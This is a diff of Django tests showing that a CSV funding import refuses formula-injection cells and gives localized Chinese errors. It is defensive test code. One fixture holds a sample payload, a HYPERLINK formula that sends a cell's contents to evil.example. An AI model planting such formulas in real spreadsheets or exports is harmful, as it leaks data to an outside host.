@@ -420,6 +420,46 @@ def test_funding_rows_are_checked_against_the_database_and_each_other(tmp_path):
     assert not FundingRecord.objects.exists()
 
 
+def test_formulas_in_text_cells_are_refused_and_nothing_is_imported(tmp_path):
+    """Spreadsheet formula injection: a funder named =HYPERLINK(…) would reach the public funding CSV."""
+    organization(1)
+    rows = [
+        funding_row(),
+        funding_row(funder='=HYPERLINK("http://evil.example/?x="&A2,"点击")'),
+        funding_row(project="@SUM(A1:A9)"),
+        funding_row(project="+1+2"),
+    ]
+    message, err = refused("funding", write_csv(tmp_path, FUNDING_HEADER, rows))
+    assert message == "Rows with errors: 3; nothing was imported."
+    reason = "It starts with “%s”, which spreadsheet programs run as a formula; remove or reword it."
+    assert err.splitlines() == [
+        f"Row 3, column “资助方”: {reason % '='}",
+        f"Row 4, column “资助项目”: {reason % '@'}",
+        f"Row 5, column “资助项目”: {reason % '+'}",
+    ]
+    assert not FundingRecord.objects.exists()
+
+
+def test_formula_refusal_is_in_chinese_for_a_chinese_user(tmp_path):
+    organization(1)
+    path = write_csv(tmp_path, FUNDING_HEADER, [funding_row(funder="=A1")])
+    with translation.override("zh-hans"), pytest.raises(CommandError):
+        call_command("import_directory", "funding", str(path), stdout=StringIO(), stderr=(err := StringIO()))
+    assert "电子表格软件会把它当作公式执行" in err.getvalue()
+    assert not FundingRecord.objects.exists()
+
+
+def test_text_may_start_with_a_dash_and_phones_with_a_plus(tmp_path):
+    """A leading - is ordinary text (a list, a dash for none) and +86 a phone; the exports neutralise them."""
+    run("organizations", write_csv(tmp_path, ORG_HEADER, [org_row(1, **{"联系电话": "+86 20 8300 0000"})]))
+    assert Organization.objects.get().phone == "+86 20 8300 0000"
+    _, err = refused("organizations", write_csv(tmp_path, ORG_HEADER, [org_row(2, **{"联系电话": "+1+2"})]))
+    assert "column “联系电话”: It starts with “+”" in err
+    organization(3)
+    run("funding", write_csv(tmp_path, FUNDING_HEADER, [funding_row(n=3, project="- 长者饭堂")]))
+    assert FundingRecord.objects.get().project_name == "- 长者饭堂"
+
+
 # Donations
 
 
